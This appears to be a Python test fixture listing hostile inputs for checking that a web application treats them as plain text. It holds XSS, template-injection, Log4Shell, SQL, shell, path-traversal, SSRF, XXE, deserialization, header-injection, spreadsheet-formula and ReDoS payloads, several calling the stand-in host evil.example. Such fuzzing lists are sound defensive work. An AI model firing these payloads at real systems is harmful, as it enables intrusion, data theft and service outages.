"""Hostile inputs, of the kinds that public lists of patterns have; each is text and must stay text."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x></form>",
    "<object data=javascript:alert(1)></object>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "javascript:alert(1)",
]
TEMPLATES = [
    "{{7*191}}",
    "${7*191}",
    "{%print(7*191)%}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{{config}}",
    "{n.__class__}",
    "%(x)s",
]
PATHS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//evil.example/",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "\\\\evil\\share",
    "%c0%ae%c0%ae/etc/passwd",
    "ledger.sqlite",
    ".",
    "..",
    "%2e%2e",
    "users.json%00.css",
]
DATABASES = ["' OR '1'='1", "1; DROP TABLE reading--", "' UNION SELECT sqlite_version()--", '{"$gt": ""}', "*)(uid=*"]
SHELLS = ["; id", "$(id)", "`id`", "| cat /etc/passwd", "() { :;}; echo x"]
HEADERS = [
    "x\r\nSet-Cookie: evil=1",
    "x\nLocation: //evil.example",
    "x%0d%0aSet-Cookie:evil=1",
    "\r\n\r\n<html>",
    "嘊嘍Set-Cookie:evil=1",
]
SHEETS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1"]
PATTERNS = [
    "(a+)+$" + "a" * 50,
    "(" * 300,
    "*" * 300,
    '"' * 301,
    "a*" * 100,
    "NOT " * 100,
    "OR " * 100,
    "-" * 300,
    "[" * 200,
]
UNICODE = [
    "\u202e文",
    "\ufeff",
    "\ud7ff\ue000",
    "\U0010ffff",
    "ﷺ" * 100,
    "Z̸̡͇̳̺" * 30,
    "\u0000",
    "\x7f\x1b[31m",
    "%",
    "%%%",
    "%zz",
    "%ff%fe",
    "1e309",
    "-1",
    "9" * 400,
    "NaN",
    "١٢٣",
]

INPUTS = [*SCRIPTS, *TEMPLATES, *PATHS, *DATABASES, *SHELLS, *HEADERS, *SHEETS, *PATTERNS, *UNICODE]

# --- further ones, by kind, each tried at some of the routes ------------------------------------------

_TAGS = ("img src=x", "video src=x", "audio src=x", "body", "input autofocus", "select autofocus", "marquee", "svg")
_EVENTS = ("onerror", "onfocus", "onload", "onpointerrawupdate", "onanimationend")
_BREAKS = ("", "'", '"', "`", "</style>", "</noscript>", "-->", "]]>")
_SCHEMES = ("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "vbscript", "data", "blob")
_DEPTHS = ("..", "..;", "%2e%2e", "%252e%252e", "..%c0%af", "..%ef%bc%8f", ".%00.", "\uff0e\uff0e")
_TARGETS = ("etc/passwd", "proc/self/environ", "ledger.sqlite", "users.json", "secret", "index/_MAIN_1.toc")
_HOSTS = (
    *("127.0.0.1", "localhost:9200", "[::1]", "0", "0x7f000001", "2130706433", "169.254.169.254", "metadata.internal"),
    *("127.1", "evil.example#@localhost", "localhost@evil.example", "１２７.0.0.1"),
)
_BOMBS = ("(a+)+", "(a|a)*", "(.*a){20}", "([a-z]+)*", "(?:a?){30}a{30}", "^(\\s+)+$", "(x+x+)+y", "\\d+\\d+\\d+!")
_FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "＝", " =", "'=", '"=')
_MACROS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "WEBSERVICE(A1)", "IMPORTXML(A1,B1)")
_ENGINES = (
    *("{{''.__class__.__mro__[1]}}", "{{request.application.__globals__}}", "{{cycler.__init__.__globals__.os}}"),
    *(
        "{%for x in range(9**9)%}x{%endfor%}",
        "{{'a'*10**9}}",
        "{# x #}",
        "{{self}}",
        "${{7*191}}",
        "@(7*191)",
        "*{7*191}",
    ),
    *("{0.__class__.__init__.__globals__}", "%(config)s", "{config[SECRET_KEY]}", "$" + "{jndi:ldap://evil.example/x}"),
)
_PICKLES = (
    "cos\nsystem\n(S'id'\ntR.",
    "\x80\x04\x95.",
    "gASVAAAAAAAAAA==",
    "!!python/object/apply:os.system ['id']",
    'O:8:"x":0:{}',
)
_HEADS = (
    *(
        "x\r\nX-Evil: 1",
        "x\r\n\r\n<script>1</script>",
        "%E5%98%8A%E5%98%8DSet-Cookie:evil=1",
        "x\u2028Set-Cookie: evil=1",
    ),
    *(
        "x\x85Set-Cookie: evil=1",
        "x%0aLocation:%20//evil.example",
        "x\x0bSet-Cookie: evil=1",
        "x%23%0dSet-Cookie:evil=1",
    ),
)
_XML = (
    *('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<?xml-stylesheet href="//evil.example/x"?>'),
    *('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></x>', "&lol9;"),
)
_ENDS = (
    "\u0000",
    "\ud83d\ude00" * 60,
    "\u0300" * 200,
    "\u202e\u2066\u2069",
    "\ufdd0",
    "İ" * 50,
    "ß" * 50,
    "\u180e",
    "﷽" * 20,
)
_NUMBERS = ("0x10", "1e999", "-0", "１２", "²", "⑫", "0" * 300 + "1", "9223372036854775808", "1_000", "inf", "٣", "廿")

SENT = {
    "markup": [f"{end}<{tag} {event}=alert(1)>" for end in _BREAKS[:4] for tag in _TAGS for event in _EVENTS[:2]]
    + [f"{end}<svg {event}=alert(1)>" for end in _BREAKS for event in _EVENTS],
    "addresses": [f"{scheme}:alert(1)" for scheme in _SCHEMES]
    + [f"<a href='{scheme}:text/html,<script>alert(1)</script>'>x</a>" for scheme in _SCHEMES],
    "paths": [f"{'/'.join([depth] * 4)}/{target}" for depth in _DEPTHS for target in _TARGETS],
    "requests to elsewhere": [f"{scheme}://{host}/" for scheme in ("http", "gopher") for host in _HOSTS],
    "patterns": [f"{bomb}{'a' * 40}!" for bomb in _BOMBS] + [f"/{bomb}/" for bomb in _BOMBS],
    "sheets": [f"{sign}{macro}" for sign in _FORMULAS for macro in _MACROS],
    "templates": list(_ENGINES),
    "pickles": list(_PICKLES),
    "headers": list(_HEADS),
    "xml": list(_XML),
    "signs": list(_ENDS),
    "numbers": list(_NUMBERS),
}
MORE = list(dict.fromkeys(one for several in SENT.values() for one in several if one not in INPUTS))
